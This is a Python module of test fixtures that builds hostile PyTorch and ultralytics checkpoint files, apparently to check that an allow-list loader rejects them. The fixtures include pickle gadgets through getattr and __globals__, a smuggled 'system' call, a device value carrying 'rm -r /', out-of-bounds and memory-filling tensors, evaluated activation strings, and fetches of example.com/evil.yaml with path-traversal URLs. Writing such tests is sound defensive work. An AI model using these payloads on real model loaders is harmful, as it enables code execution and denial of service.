"""Files that name only what is on the allow-list, and use it otherwise than checkpoints do."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

from support.hostile.assembler import Built, Call, Name, New, Raw, Stored, assemble
from support.hostile.case import Hostile, gadget, python
from support.hostile.torch_format import torch_zip

ORDERED_DICT = Name("collections", "OrderedDict")
TENSOR = Name("torch._utils", "_rebuild_tensor_v2")
_MODEL = Name("ultralytics.nn.tasks", "DetectionModel")
_DETECT = Name("ultralytics.nn.modules.head", "Detect")
_LIST = Name("torch.nn.modules.container", "ModuleList")
_CONFIG = Name("ultralytics.utils", "IterableSimpleNamespace")
_GETATTR = Name("__builtin__", "getattr")
_DTYPE = Name("numpy", "dtype")("f8", False, True)
_SCALAR = Name("numpy.core.multiarray", "scalar")

_HEAP = "https://github.com/pytorch/pytorch/security/advisories/GHSA-63cw-57p8-fm3p"  # CVE-2026-24747


def _tensor(
    elements: int = 4,
    size: tuple[int, ...] = (4,),
    stride: tuple[int, ...] = (1,),
    offset: int = 0,
    hooks: object = None,
) -> Call:
    return TENSOR(Stored("0", elements), offset, size, stride, False, ORDERED_DICT() if hooks is None else hooks)


def _file(name: str, because: str, value: object, *, framework: str = "ultralytics", source: str = "") -> Hostile:
    """A checkpoint with one storage, of four floats, and ``value``."""
    content = assemble({"model": value})
    return Hostile(name, lambda _: torch_zip(content, {"0": bytes(16)}), because, framework=framework, source=source)


def _beside(name: str, because: str, value: object, *, framework: str = "ultralytics", source: str = "") -> Hostile:
    """The same, with an innocent tensor in front."""
    return _file(name, because, [_tensor(), value], framework=framework, source=source)


def _code(value: object) -> bytes:
    return assemble(value)[2:-1]


def calls() -> Iterator[Hostile]:
    """Allowed names, called or created with what no checkpoint gives them."""
    only, needless, bare = "is on the list only as", "arguments that no checkpoint needs", "than by its bare class"
    yield _beside("a model's class is called", only, _MODEL("https://example.com/evil.yaml"))
    yield _beside("a model's class is created with arguments", bare, New(_MODEL, ("evil.yaml",)))
    yield _beside("a function is created as a class", bare, New(ORDERED_DICT))
    yield _beside("a data type is called", only, Name("torch", "float32")("x"))
    yield _beside("a kind of storage is called", only, Name("torch.storage", "UntypedStorage")(1 << 30))
    yield _beside("training arguments are called with arguments", only, _CONFIG({"x": 1}))
    yield _beside("OrderedDict with items that nobody sees", needless, ORDERED_DICT([["__setstate__", 1]]))
    yield _beside("getattr for a class's __init__", needless, _GETATTR(_DETECT, "__init__"))
    yield _beside("getattr of getattr", needless, _GETATTR(_GETATTR(_DETECT, "forward"), "__globals__"))
    yield _beside("getattr of an object", needless, _GETATTR(Built(New(_DETECT), ({"x": 1},)), "forward"))
    yield _beside("getattr with a default", needless, _GETATTR(_DETECT, "forward", 1))
    yield _beside("a codec that is imported", needless, Name("_codecs", "encode")("x", "idna"))
    yield _beside("a device that is more", needless, Name("torch", "device")("cpu; rm -r /"))
    yield _beside("a data type of objects", needless, Name("numpy", "dtype")("O8", False, True))
    yield _beside("a number of numpy made of a list", needless, _SCALAR(_DTYPE, ["x"]))
    yield _beside("the result of a call is called", "calls a result", _GETATTR(_DETECT, "forward")(1))
    yield _beside("a text is called", "calls a system", Raw(_code("system") + b")R"))
    yield _beside("a call with a list", "what is not a tuple", Raw(_code(ORDERED_DICT) + b"]R"))
    model = Built(New(_MODEL), ({},))
    yield _beside("a model in a framework of state dicts", "allow-list of timm", model, framework="timm")


def carried() -> Iterator[Hostile]:
    """Classes and functions handed about as data, for something else to call."""
    as_data = "is carried as data"
    yield _beside("a class as a forward hook", as_data, Built(New(_DETECT), ({"_forward_hooks": {0: _MODEL}},)))
    yield _beside("getattr as a value", as_data, {"loss": _GETATTR})
    yield _beside("a class from the memo as a value", as_data, [New(Raw(_code(_DETECT) + b"q\x61")), Raw(b"h\x61")])  # type: ignore[arg-type]
    hook = Built(ORDERED_DICT(), ({0: _MODEL},))
    yield _file("a class as a gradient's hook", "arguments that no checkpoint needs", _tensor(hooks=hook))
    hooks, fill = Raw(_code(ORDERED_DICT()) + b"q\x61"), Raw(b"h\x61K\x00" + _code(New(_LIST)) + b"s")
    yield _file("hooks that are filled later, through the memo", "gets hooks", [_tensor(hooks=hooks), fill])
    call = Raw(_code(_GETATTR) + _code((_DETECT, "forward")) + b"q\x61R")
    again = Raw(_code(_GETATTR) + b"h\x61R")
    twice = "is there twice"
    yield _beside("one getattr's arguments, counted twice", twice, [call, again, {"x": _DETECT}])
    kept = Raw(_code((_DETECT, "forward")) + b"q\x61")
    yield _beside("getattr's arguments, before as data", twice, [Built(New(_DETECT), ({"m": kept},)), again])
    yield _beside(
        "getattr's arguments, afterwards as data", twice, [call, Built(New(_DETECT), ({"m": Raw(b"h\x61")},))]
    )
    local = Name("pathlib._local", "PosixPath")("runs")
    yield _beside("a path of a module that is not there and would be installed", "not on the allow-list", local)


def states() -> Iterator[Hostile]:
    """Objects filled otherwise than from a plain dictionary, once."""
    acts, not_set, not_filled = "which Python acts upon", "items are set on", "which is not an object"
    yield _beside("a state with __setstate__", acts, Built(New(_DETECT), ({"__setstate__": 1},)))
    yield _beside("a state with __class__", acts, Built(_CONFIG(), ({"__class__": 1},)))
    yield _beside("an object filled twice", "is filled twice", Built(New(_DETECT), ({}, {})))
    yield _beside("slots, set by setattr", "what is not a dictionary", Built(_CONFIG(), ((None, {"x": 1}),)))
    yield _beside("a state that is an OrderedDict", "what is not a dictionary", Built(New(_DETECT), (ORDERED_DICT(),)))
    yield _beside("a class is filled", not_filled, Built(_DETECT, ({"forward": 1},)))
    yield _file("a tensor is filled", "which no checkpoint needs", Built(_tensor(), ({"x": 1},)))
    record = (3, "|", None, ("x",), {"x": 1}, 1 << 30, 1, 16)
    yield _beside("a record's state for a number's type", "not a plain number's", Built(_DTYPE, (record,)))
    yield _file("items set on a tensor", not_set, Raw(_code(_tensor()) + b"K\x00K\x01s"), source=_HEAP)
    yield _beside("items set on a model", not_set, Raw(_code(New(_LIST)) + b"K\x00K\x01s"), source=_HEAP)
    yield _beside("items appended to a model", "not a list", Raw(_code(New(_LIST)) + b"K\x00a"))
    yield _beside("items added to a dictionary as to a set", "not a set", Raw(b"}(K\x00\x90"))
    yield _beside("an object as a key", "not a plain value", Raw(b"}" + _code(New(_DETECT)) + b"K\x00s"))


def memory() -> Iterator[Hostile]:
    """Tensors that are not what their storage is."""
    beyond, needless, foreign = "beyond its storage", "arguments that no checkpoint needs", "not a storage's"
    yield _file("a storage shorter than it claims", "and needs 4194304", _tensor(1 << 20), source=_HEAP)
    other = TENSOR(Stored("1", 4), 0, (4,), (1,), False, ORDERED_DICT())
    yield _beside("a storage that is not there", "storage 1 has None bytes", other)
    yield _file("a storage that belongs to no tensor", "belongs to no tensor", {"x": 1})
    yield _beside("one storage with two sizes", "two sizes", _tensor(8))
    yield _file("a tensor beyond its storage", beyond, _tensor(size=(5,)))
    yield _file("a tensor beyond its storage by its offset", beyond, _tensor(offset=1))
    yield _file("a tensor beyond its storage by its stride", beyond, _tensor(size=(2,), stride=(1 << 30,)))
    yield _file("a tensor before its storage", needless, _tensor(stride=(-1,)))
    yield _file("a tensor a billion times its storage", "fills memory", _tensor(size=(1 << 30,), stride=(0,)))
    views = [_tensor(size=(1 << 20,), stride=(0,)) for _ in range(600)]
    yield _file("six hundred tensors that repeat a storage", "repeat their storages until they fill memory", views)
    yield _file("a tensor of a hundred dimensions", needless, _tensor(size=(1,) * 100, stride=(1,) * 100))
    yield _file("a storage of negative size", "without key, place or size", _tensor(-4))
    yield _beside("a storage in no place", "without key, place or size", Raw(_code(_identity("/etc")) + b"Q"))
    module = ("module", Name("torch", "FloatStorage"), "evil.py", "source", 4)
    yield _beside("a persistent id of a module", foreign, Raw(_code(module) + b"Q"))
    yield _beside("a persistent id with a class that is no storage", foreign, Stored("0", 4, kind=_DETECT))
    yield _beside("a persistent id with a foreign class", "torch.hub.load", Stored("0", 4, Name("torch.hub", "load")))
    yield _beside("a persistent id that is a number", foreign, Raw(b"K\x00Q"))
    yield _beside("a persistent id as text", "opcode PERSID", Raw(b"P0\n"))


def _identity(place: str) -> tuple[object, ...]:
    return ("storage", Name("torch", "FloatStorage"), "1", place, 4)


_CONTAINER = "torch.nn.modules.container"


def acted_on() -> Iterator[Hostile]:
    """Plain text that ultralytics evaluates, calls or fetches when somebody trains from the checkpoint (tried)."""
    layers = {"nc": 80, "backbone": [[-1, 1, "Conv", [64, 3, 2]]], "head": [[[0], 1, "Detect", ["nc"]]]}

    def model(yaml: Callable[[Path], dict[str, object]]) -> Callable[[Path], object]:
        return lambda canary: Built(New(_MODEL), ({"yaml": layers | yaml(canary)},))

    def row(layer: object) -> dict[str, object]:
        return {"backbone": [[-1, 1, "Conv", [64, 3, 2]], [-1, 1, layer, ["'next.pt'"]]]}

    number = _SCALAR(Built(_DTYPE, ((3, "<", None, None, None, -1, -1, 0),)), _encode("exit(42)"))
    for name, text in (
        ("that is evaluated", lambda c: python(c)),
        ("that only begins well", lambda c: f"nn.SiLU() if {python(c)} else 0"),
        ("with a call in its arguments", lambda c: "nn.SiLU(exit())"),
        ("of bytes", lambda c: _encode(python(c))),
        ("of a number's bytes", lambda c: number),
    ):
        yaml = model(lambda c, text=text: {"activation": text(c)})  # type: ignore[misc]
        yield gadget(f"an activation {name}", yaml, because="would act upon its `activation`", runs=False)
    for name, changed in (
        ("a layer that is a function", row("torch_safe_load")),
        ("a layer of another package", row("torchvision.ops.evil")),
        ("a layer that is no text", row(_encode("torch_safe_load"))),
        ("layers that are no list", {"head": {"x": 1}}),
        ("rows that are tuples", {"head": [(-1, 1, "torch_safe_load", ["'next.pt'"])]}),
    ):
        yaml = model(lambda _, changed=changed: changed)  # type: ignore[misc]
        yield gadget(name, yaml, because="has a layer", runs=False)
    # The list is empty when it is set, and is filled through the memo.
    empty = Raw(assemble({"backbone": Raw(b"]q\x61")})[2:-1])
    fill = Raw(b"h\x61" + _code([-1, 1, "torch_safe_load", ["'next.pt'"]]) + b"a")
    yield gadget("a layer added to the list later", lambda _: [empty, fill], because="has a layer", runs=False)
    # Layers that hold others than layers are lists by another name (tried: `parse_model` takes such a row apart).
    for kind, because in (("Sequential", "a child that is none"), ("ParameterList", "not on the allow-list")):
        items: dict[str, object] = dict(zip("0123", (-1, 1, "torch_safe_load", ["'next.pt'"]), strict=True))
        row_of = Built(
            New(Name(_CONTAINER, kind)), ({"_modules": items} if kind == "Sequential" else items | {"_size": 4},)
        )
        rows = Built(New(Name(_CONTAINER, "ModuleList")), ({"_modules": {"0": row_of}},))
        yaml = model(lambda _, rows=rows: {"backbone": rows})  # type: ignore[misc]
        yield gadget(f"rows that are a {kind}", yaml, because=because, runs=False)
    children: dict[object, object] = {-1: None, 2: None, "check_requirements": None, ("evil",): None}
    keyed = Built(New(Name(_CONTAINER, "ModuleDict")), ({"_modules": children},))
    for name, because, kept in (("numbers", "a child that is none", keyed), ("texts", "has a layer", New(_LIST))):
        yaml = model(lambda _, kept=kept: {"backbone": kept})  # type: ignore[misc]
        yield gadget(f"rows that are the keys of layers, {name}", yaml, because=because, runs=False)
    settings = {"train_args": {"data": "https://example.com/evil.yaml"}}
    yield gadget("a data set to fetch, with a script", lambda _: settings, because="upon its `data`", runs=False)
    elsewhere = {"task": "classify", "data": "../../../../evil/repo/releases/download/v1/x"}
    yield gadget("a data set of another repository", lambda _: elsewhere, because="upon its `data`", runs=False)
    escaped = {"task": "classify", "data": "%2e%2e/%2e%2e/evil/repo/releases/download/v1/x"}
    yield gadget("a data set with escaped dots", lambda _: escaped, because="upon its `data`", runs=False)


def _encode(content: str) -> Call:
    return Name("_codecs", "encode")(content, "latin1")
